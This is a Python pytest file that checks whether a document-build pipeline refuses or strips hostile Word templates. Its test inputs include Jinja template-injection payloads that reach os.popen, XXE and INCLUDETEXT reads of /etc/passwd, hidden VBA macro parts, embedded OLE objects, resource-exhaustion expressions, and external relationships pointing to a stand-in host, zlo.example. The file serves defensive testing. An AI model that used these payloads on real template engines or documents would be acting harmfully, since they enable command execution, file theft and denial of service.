"""Templates made to harm, in a real workspace: refused with a place, or stripped of what would do it."""

from __future__ import annotations

import io
import re
import time
import zipfile
from collections.abc import Callable, Iterable
from pathlib import Path

import pytest
from _pytest.mark import ParameterSet
from workspaces import Ran, run, small, write

from docpipe.workspace import shipped_templates

PATH = "templates_docx/minutes.docx"
Parts = dict[str, bytes]


def template(change: Callable[[Parts], None]) -> bytes:
    """Return the shipped template of minutes, changed."""
    with zipfile.ZipFile(shipped_templates() / "minutes.docx") as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return stream.getvalue()


def in_body(xml: str) -> Callable[[Parts], None]:
    def change(parts: Parts) -> None:
        parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:body>", b"<w:body>" + xml.encode(), 1)

    return change


def paragraph(text: str) -> Callable[[Parts], None]:
    return in_body(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>")


def doctype(parts: Parts) -> None:
    body = parts["word/document.xml"].decode()
    parts["word/document.xml"] = re.sub(r"^(<\?xml[^>]*\?>)?", _DOCTYPE, body, count=1).encode()


def related(kind: str, target: str, part: str = "word/_rels/document.xml.rels") -> Callable[[Parts], None]:
    def change(parts: Parts) -> None:
        item = f'<Relationship Id="rIdZlo" Type="{_RELATIONS}/{kind}" Target="{target}" TargetMode="External"/>'
        known = parts.get(part, _NONE)
        parts[part] = known.replace(b"</Relationships>", item.encode() + b"</Relationships>")

    return change


def macros(parts: Parts) -> None:
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + bytes(500)
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", b"application/vnd.ms-word.document.macroEnabled.main+xml"
    )


def hidden_macros(parts: Parts) -> None:
    """Put macros into what says of itself that it is an ordinary document."""
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + bytes(500)
    kind = b'<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", kind)
    relation = b'<Relationship Id="rIdZlo" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>'
    rels = "word/_rels/document.xml.rels"
    parts[rels] = parts[rels].replace(b"</Relationships>", relation)


def embedded(parts: Parts) -> None:
    """Embed a file of another program as Word does: an OLE object, told in a paragraph."""
    parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0" + bytes(500)
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/></Types>'
    )
    relation = f'<Relationship Id="rIdZlo" Type="{_RELATIONS}/oleObject" Target="embeddings/oleObject1.bin"/></Relationships>'.encode()
    parts["word/_rels/document.xml.rels"] = parts["word/_rels/document.xml.rels"].replace(b"</Relationships>", relation)
    in_body(
        f'<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:r="{_RELATIONS}" Type="Embed" r:id="rIdZlo"/>'
        "</w:object></w:r></w:p>"
    )(parts)


def bomb(parts: Parts) -> None:
    parts["word/media/bomba.bin"] = bytes(200_000_000)


def quick_first(names: Iterable[str], *quick: str) -> list[ParameterSet]:
    """Return all names as parameters; only the quick ones are run each time, the lint's own tests hold the rest in detail."""
    return [pytest.param(name, marks=() if name in quick else pytest.mark.long) for name in names]


def build(root: Path, content: bytes) -> Ran:
    began = time.monotonic()
    ran = run(write(small(root), {PATH: content}), "build", "minutes", "--edition", "public", "--format", "docx")
    assert time.monotonic() - began < 60
    return ran


_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_NONE = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
_DOCTYPE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
_BOX = (
    '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:textbox><w:txbxContent>'
    "<w:p><w:r><w:t>{{ neznámé }}</w:t></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>"
)

REFUSED: dict[str, Callable[[Parts], None]] = {
    "a shell": paragraph("{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    "an engine's object": paragraph("{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    "a loop over itself": paragraph("{% for a in loop %}{{ a }}{% endfor %}"),
    "a long range": paragraph("{% for a in range(10**9) %}x{% endfor %}"),
    "a huge product": paragraph("{{ 'x' * 10**9 }}"),
    "a huge power": paragraph("{{ 9 ** 9 ** 9 }}"),
    "a huge format": paragraph("{{ '%1000000000d' % 1 }}"),
    "a huge filter": paragraph("{{ 'x'|center(1000000000) }}"),
    "an include": paragraph("{% include '/etc/passwd' %}"),
    "a doctype": doctype,
    "macros": macros,
    "hidden macros": hidden_macros,
    "an embedded object": embedded,
    "a field that reads a file": in_body('<w:p><w:fldSimple w:instr="INCLUDETEXT file:///etc/passwd"/></w:p>'),
    "a bomb": bomb,
}


@pytest.mark.parametrize(
    "name", quick_first(REFUSED, "a shell", "a huge power", "a doctype", "macros", "hidden macros", "an embedded object", "a field that reads a file", "a bomb")
)
def test_what_could_harm_is_refused_with_its_place(name: str, tmp_path: Path) -> None:
    ran = build(tmp_path, template(REFUSED[name]))
    assert ran.code == 1
    assert [item["fate"] for item in ran.report["outputs"]] == ["failed"]
    assert PATH in {item["path"] for item in ran.report["diagnostics"] if item["severity"] == "fault"}
    assert "root:" not in str(ran.report)


REMOTE: dict[str, Callable[[Parts], None]] = {
    "a remote template": related("attachedTemplate", "http://zlo.example/sablona.dotm", "word/_rels/settings.xml.rels"),
    "a remote picture": related("image", "http://zlo.example/obrazek.png"),
    "a picture from the disk": related("image", "file:///etc/passwd"),
    "a remote object": related("oleObject", "http://zlo.example/x"),
    "a remote part": related("aFChunk", "http://zlo.example/x.html"),
    "a remote subdocument": related("subDocument", "file:///etc/passwd"),
    "a remote frame": related("frame", "http://zlo.example/x"),
}


@pytest.mark.parametrize("name", quick_first(REMOTE, "a remote template", "a picture from the disk"))
def test_nothing_remote_gets_into_a_document(name: str, tmp_path: Path) -> None:
    ran = build(tmp_path, template(REMOTE[name]))
    for path in ran.outputs("docx"):
        if path.is_file():
            with zipfile.ZipFile(path) as archive:
                said = b"".join(archive.read(part) for part in archive.namelist())
            told = {item["path"] for item in ran.report["diagnostics"] if item["severity"] in ("fault", "error")}
            assert PATH in told or (b"zlo.example" not in said and b"/etc/passwd" not in said)


def test_a_tag_in_a_text_box_is_not_lost_silently(tmp_path: Path) -> None:
    ran = build(tmp_path, template(in_body(_BOX)))
    assert PATH in {item["path"] for item in ran.report["diagnostics"] if item["severity"] in ("fault", "error")}
